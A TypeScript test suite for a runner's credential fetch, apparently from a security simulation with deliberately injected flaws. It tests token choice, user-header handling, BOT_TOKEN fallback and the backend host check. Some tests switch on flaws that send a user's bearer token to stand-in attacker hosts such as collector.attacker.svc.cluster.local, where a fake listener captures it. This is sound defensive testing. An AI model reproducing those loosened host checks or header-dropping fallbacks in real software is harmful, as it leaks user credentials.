/**
 * The runner's credential fetch (`_fetch_credential`, docs/platform/runner.md#_fetch_credential) against the real
 * backend over loopback: which token and which X-Runner-Current-User each attempt carries, the
 * BOT_TOKEN fallback on 401/403, the host check on BACKEND_API_URL, and the `{}` it answers for
 * every failure, each told on the trace and in the runner's log.
 */
import { podOf } from '../support/runner-pod'
import type { IncomingMessage, ServerResponse } from 'node:http'
import { afterEach, describe, expect, it } from 'vitest'
import type { EventOf } from '../../src/shared/events'
import type { FlawId } from '../../src/shared/flaw-ids'
import type { CredentialSlot } from '../../src/shared/providers'
import type { Engine } from '../../src/main/engine/engine'
import { listen, type Listener } from '../../src/main/net/server'
import { RunnerContext } from '../../src/main/runner/context'
import type { Env } from '../../src/main/runner/env'
import { type Fetched, fetchCredential } from '../../src/main/runner/fetch-client'
import type { RunnerPod } from '../../src/main/runner/pod'
import { MERGE_AS_SHIPPED, recordEvents, startTestEngine } from '../support/engine'

let engine: Engine | null = null
const extra: Listener[] = []
afterEach(async () => {
  await Promise.all(extra.splice(0).map((l) => l.close()))
  await engine?.stop()
  engine = null
})

interface Fetching {
  engine: Engine
  pod: RunnerPod
  events: ReturnType<typeof recordEvents>
  fetch(slot: CredentialSlot): Promise<{ body: Fetched; event: EventOf<'runner.fetch'>; owner: string | null; logs: string[] }>
}

/**
 * The shared-1 runner's real env, workspace and trace, with a context of our own: the user the
 * turn runs for and the caller token the proxy handed over. `env` edits apply to a copy.
 */
async function runnerFor(options: { profile?: 'hardened' | 'merged'; flaws?: FlawId[]; user?: string; /** The X-Caller-Token the proxy handed over; the user's own token when not given, none when ''. */ callerToken?: string; session?: string; env?: Record<string, string | null> } = {}): Promise<Fetching> {
  const profile = options.profile ?? 'hardened'
  const started = await startTestEngine({ profile, flaws: profile === 'hardened' ? [...MERGE_AS_SHIPPED, ...(options.flaws ?? [])] : options.flaws })
  engine = started
  const runner = started.runner('demo', 'shared-1')
  if (!runner) throw new Error('shared-1 has no runner')
  const env: Env = new Map(runner.env)
  for (const [key, value] of Object.entries(options.env ?? {})) {
    if (value === null) env.delete(key)
    else env.set(key, value)
  }
  const user = options.user ?? 'bob'
  const context = new RunnerContext(options.session ?? 'shared-1', '/workspace')
  context.setCurrentUser(user, '', options.callerToken ?? `Bearer ${started.userToken(user)}`)
  const pod: RunnerPod = podOf(runner, { env, context, installed: { credentialHelper: false, ghWrapperDir: null } })
  const events = recordEvents(started)
  return {
    engine: started,
    pod,
    events,
    async fetch(slot) {
      const before = events.all.length
      const body = await fetchCredential(pod, slot)
      const mine = events.all.slice(before)
      const event = mine.filter((e): e is EventOf<'runner.fetch'> => e.kind === 'runner.fetch').at(-1)
      if (!event) throw new Error('the fetch told nothing')
      const owner = started.whose(JSON.stringify(body)).filter((r) => r.slot !== 'bearer')[0]?.owner ?? null
      const logs = mine.filter((e): e is EventOf<'log'> => e.kind === 'log' && e.hop === 'runner').map((e) => `${e.level}: ${e.text}`)
      return { body, event, owner, logs }
    }
  }
}

/** Every request a loopback listener got, and what it answers: a stand-in for a host an attacker runs. */
async function fakeHost(engine: Engine, host: string, port: number, answer: { status: number; body: string }): Promise<Array<{ url: string; headers: IncomingMessage['headers'] }>> {
  const seen: Array<{ url: string; headers: IncomingMessage['headers'] }> = []
  const listener = await listen(host, async (req: IncomingMessage, res: ServerResponse) => {
    seen.push({ url: req.url ?? '', headers: req.headers })
    res.writeHead(answer.status, { 'Content-Type': 'application/json' }).end(answer.body)
  })
  extra.push(listener)
  engine.sim.net.register(host, port, listener.port)
  return seen
}

const runnerFetchHeaders = (f: Fetching): Array<Record<string, string>> =>
  f.events.of('http.request').filter((r) => r.from === 'runner' && r.to === 'backend').map((r) => r.headers)

describe("the runner's credential fetch", () => {
  it("with the caller's token and X-Runner-Current-User gets that user's credential", async () => {
    const f = await runnerFor()
    const got = await f.fetch('github')
    expect(got.owner).toBe('bob')
    expect(got.event).toMatchObject({ slot: 'github', auth: 'caller', currentUserHeader: 'bob', status: 200, outcome: 'ok', fallback: false })
    expect(runnerFetchHeaders(f).map((h) => h['X-Runner-Current-User'])).toEqual(['bob'])
    expect(f.events.of('http.request').filter((r) => r.from === 'runner').map((r) => r.url)).toEqual([
      'http://backend-service.ambient-code.svc.cluster.local:8080/api/projects/demo/agentic-sessions/shared-1/credentials/github'
    ])
    expect(got.logs).toEqual([])
  })

  it('asks an MCP server credential at credentials/mcp/<server>, and tolerates trailing slashes on BACKEND_API_URL', async () => {
    const f = await runnerFor({ env: { BACKEND_API_URL: 'http://backend-service.ambient-code.svc.cluster.local:8080/api//' } })
    const got = await f.fetch('mcp:docs')
    expect(got.owner).toBe('bob')
    expect(f.events.of('http.request').filter((r) => r.from === 'runner').map((r) => r.url)).toEqual([
      'http://backend-service.ambient-code.svc.cluster.local:8080/api/projects/demo/agentic-sessions/shared-1/credentials/mcp/docs'
    ])
  })

  it('takes the project from AGENTIC_SESSION_NAMESPACE when PROJECT_NAME is empty', async () => {
    const f = await runnerFor({ env: { PROJECT_NAME: '' } })
    expect((await f.fetch('jira')).owner).toBe('bob')
  })

  it.each([
    ['BACKEND_API_URL', { BACKEND_API_URL: null }, undefined],
    ['the project', { PROJECT_NAME: null, AGENTIC_SESSION_NAMESPACE: null }, undefined],
    ['the session', {}, '']
  ] as const)('without %s fetches nothing and says why', async (_what, env, session) => {
    const f = await runnerFor({ env, session })
    const got = await f.fetch('gitlab')
    expect(got.body).toEqual({})
    expect(got.event).toMatchObject({ auth: 'none', currentUserHeader: null, status: null, outcome: 'skipped', fallback: false })
    expect(got.logs).toEqual(['warning: Cannot fetch gitlab credentials: BACKEND_API_URL, project or session missing'])
    expect(runnerFetchHeaders(f)).toEqual([])
  })

  it.each([
    ['an outside host', 'http://collector.example.com/api', 'collector.example.com'],
    ['a cluster host that is not the backend', 'http://collector.attacker.svc.cluster.local:8080/api', 'collector.attacker.svc.cluster.local'],
    ["the backend's name on another port", 'http://backend-service.ambient-code.svc.cluster.local:9090/api', 'backend-service.ambient-code.svc.cluster.local'],
    ["the backend's name with no port (80)", 'http://backend-service.ambient-code.svc.cluster.local/api', 'backend-service.ambient-code.svc.cluster.local'],
    ['localhost', 'http://localhost:8080/api', 'localhost']
  ])('refuses to send credentials to %s', async (_what, url, host) => {
    const f = await runnerFor({ env: { BACKEND_API_URL: url } })
    const got = await f.fetch('github')
    expect(got.body).toEqual({})
    expect(got.event).toMatchObject({ auth: 'none', status: null, outcome: 'refused-host' })
    expect(got.logs).toEqual([`error: Refusing to send credentials to external host: ${host}`])
    expect(f.events.of('http.request').filter((r) => r.from === 'runner')).toEqual([])
  })

  it('R9b: the broad allowlist sends the caller token to any *.svc.cluster.local host, localhost and 127.0.0.1, not elsewhere', async () => {
    const f = await runnerFor({ flaws: ['r9b-backend-host-allowlist-broad'] })
    const seen = await fakeHost(f.engine, 'collector.attacker.svc.cluster.local', 8080, { status: 200, body: '{"received":true}' })
    f.pod.env.set('BACKEND_API_URL', 'http://collector.attacker.svc.cluster.local:8080/api')
    expect((await f.fetch('github')).event.outcome).toBe('ok')
    expect(seen.map((s) => s.headers.authorization)).toEqual([`Bearer ${f.engine.userToken('bob')}`])
    for (const [url, outcome] of [
      ['http://localhost:8080/api', 'error'],
      ['http://127.0.0.1:8080/api', 'error'],
      ['http://collector.example.com/api', 'refused-host'],
      ['http://svc.cluster.local.example.com/api', 'refused-host']
    ] as const) {
      f.pod.env.set('BACKEND_API_URL', url)
      expect((await f.fetch('github')).event.outcome, url).toBe(outcome)
    }
  })

  it('PR20: with no host check the credentials go wherever BACKEND_API_URL points', async () => {
    const f = await runnerFor({ flaws: ['pr20-backend-url-unchecked'], env: { BACKEND_API_URL: 'https://collector.example.com/api' } })
    const got = await f.fetch('github')
    expect(got.event).toMatchObject({ auth: 'caller', status: 200, outcome: 'ok' })
    expect(f.events.of('http.request').filter((r) => r.from === 'runner').map((r) => new URL(r.url).hostname)).toEqual(['collector.example.com'])
  })

  it('a BACKEND_API_URL that is not a URL is not checked and fails as a network error', async () => {
    const f = await runnerFor({ env: { BACKEND_API_URL: 'backend/api' } })
    const got = await f.fetch('github')
    expect(got.body).toEqual({})
    expect(got.event).toMatchObject({ auth: 'caller', status: null, outcome: 'error', fallback: false })
    expect(got.logs).toEqual([
      'warning: GET backend/api/projects/demo/agentic-sessions/shared-1/credentials/github failed: Invalid URL',
      'warning: github credential fetch failed: HTTP Error network error'
    ])
  })

  it('PR11: the caller token goes out without X-Runner-Current-User (and the hardened backend refuses it)', async () => {
    const f = await runnerFor({ flaws: ['pr11-caller-token-without-header'] })
    const got = await f.fetch('github')
    expect(runnerFetchHeaders(f).map((h) => h['X-Runner-Current-User'])).toEqual([undefined, 'bob'])
    expect(got.event).toMatchObject({ auth: 'bot', currentUserHeader: 'bob', fallback: true })
  })

  it('PR10: the header trust model sends BOT_TOKEN with X-Runner-Current-User even when there is a caller token', async () => {
    const f = await runnerFor({ flaws: ['pr10-header-trust-model'] })
    const bot = f.pod.env.get('BOT_TOKEN') ?? ''
    const got = await f.fetch('github')
    expect(got.event).toMatchObject({ auth: 'bot', currentUserHeader: 'bob' })
    expect(runnerFetchHeaders(f)).toEqual([expect.objectContaining({ 'X-Runner-Current-User': 'bob' })])
    expect(runnerFetchHeaders(f)[0]?.Authorization).toBe(f.engine.sim.redactor.redact(`Bearer ${bot}`))
  })

  it('without a caller token sends BOT_TOKEN and no X-Runner-Current-User, so the merged backend answers for the owner', async () => {
    const f = await runnerFor({ profile: 'merged', callerToken: '' })
    const got = await f.fetch('github')
    expect(got.event).toMatchObject({ auth: 'bot', currentUserHeader: null, status: 200 })
    expect(got.owner).toBe('alice')
    expect(runnerFetchHeaders(f).map((h) => h['X-Runner-Current-User'])).toEqual([undefined])
  })

  it('with neither a caller token nor BOT_TOKEN sends no Authorization at all', async () => {
    const f = await runnerFor({ callerToken: '', env: { BOT_TOKEN: '  ' } })
    const got = await f.fetch('github')
    expect(got.event).toMatchObject({ auth: 'none', currentUserHeader: null, outcome: 'empty' })
    expect(runnerFetchHeaders(f).map((h) => 'Authorization' in h)).toEqual([false])
    expect(got.logs).toEqual([`warning: github credential fetch failed: HTTP Error ${got.event.status ?? ''}`])
  })

  it('falls back to BOT_TOKEN with X-Runner-Current-User when the caller token is refused, and says so', async () => {
    const f = await runnerFor({ callerToken: 'Bearer not-a-valid-token' })
    const got = await f.fetch('github')
    expect(got.event).toMatchObject({ auth: 'bot', currentUserHeader: 'bob', fallback: true })
    expect(runnerFetchHeaders(f).map((h) => h['X-Runner-Current-User'])).toEqual(['bob', 'bob'])
    expect(got.logs[0]).toBe('info: Caller token expired for github, falling back to BOT_TOKEN')
    // Hardened: BOT_TOKEN acts for bob only while bob's run is the active one, and none is.
    expect(got.body).toEqual({})
    expect(got.event.outcome).toBe('empty')
    expect(got.logs[1]).toBe(`warning: github BOT_TOKEN fallback also failed: HTTP Error ${got.event.status ?? ''}`)
  })

  it('PR17: the fallback drops X-Runner-Current-User and gets the owner', async () => {
    const f = await runnerFor({ profile: 'merged', flaws: ['pr17-bot-fallback-without-header'], callerToken: 'Bearer not-a-valid-token' })
    const got = await f.fetch('github')
    expect(got.event).toMatchObject({ auth: 'bot', currentUserHeader: null, status: 200, outcome: 'ok', fallback: true })
    expect(got.owner).toBe('alice')
  })

  it('a fallback with no BOT_TOKEN and no reachable backend tells the network error', async () => {
    const f = await runnerFor({ callerToken: 'Bearer not-a-valid-token', env: { BOT_TOKEN: null } })
    const got = await f.fetch('jira')
    expect(got.event).toMatchObject({ auth: 'bot', fallback: true })
    expect(runnerFetchHeaders(f).map((h) => 'Authorization' in h)).toEqual([true, false])
  })

  it.each([
    ['not JSON', 'not json'],
    ['a JSON array', '[1,2]'],
    ['JSON null', 'null'],
    ['a JSON string', '"text"']
  ])('answers {} for a 200 whose body is %s, and says so', async (_what, body) => {
    const f = await runnerFor({ flaws: ['r9b-backend-host-allowlist-broad'] })
    await fakeHost(f.engine, 'odd.ambient-code.svc.cluster.local', 8080, { status: 200, body })
    f.pod.env.set('BACKEND_API_URL', 'http://odd.ambient-code.svc.cluster.local:8080/api')
    const got = await f.fetch('gitlab')
    expect(got.body).toEqual({})
    expect(got.event).toMatchObject({ status: 200, outcome: 'error', fallback: false })
    expect(got.logs).toEqual(['error: Failed to parse gitlab credential response'])
  })

  it('answers {} for a failed fallback whose body would parse, and takes a fallback that parses', async () => {
    const f = await runnerFor({ flaws: ['r9b-backend-host-allowlist-broad'], callerToken: 'Bearer refused' })
    const seen = await fakeHost(f.engine, 'flaky.ambient-code.svc.cluster.local', 8080, { status: 403, body: '{"error":"no"}' })
    f.pod.env.set('BACKEND_API_URL', 'http://flaky.ambient-code.svc.cluster.local:8080/api')
    const refused = await f.fetch('github')
    expect(refused).toMatchObject({ body: {}, event: { status: 403, outcome: 'empty', fallback: true } })
    expect(seen).toHaveLength(2)
  })

  it('a caller token answered 404 does not fall back: it is an empty answer', async () => {
    const f = await runnerFor({ session: 'no-such-session' })
    const got = await f.fetch('github')
    expect(got.body).toEqual({})
    expect(got.event).toMatchObject({ auth: 'caller', fallback: false, outcome: 'empty' })
    expect(got.event.status).not.toBe(200)
    expect(runnerFetchHeaders(f)).toHaveLength(1)
    expect(got.logs).toEqual([`warning: github credential fetch failed: HTTP Error ${got.event.status ?? ''}`])
  })
})
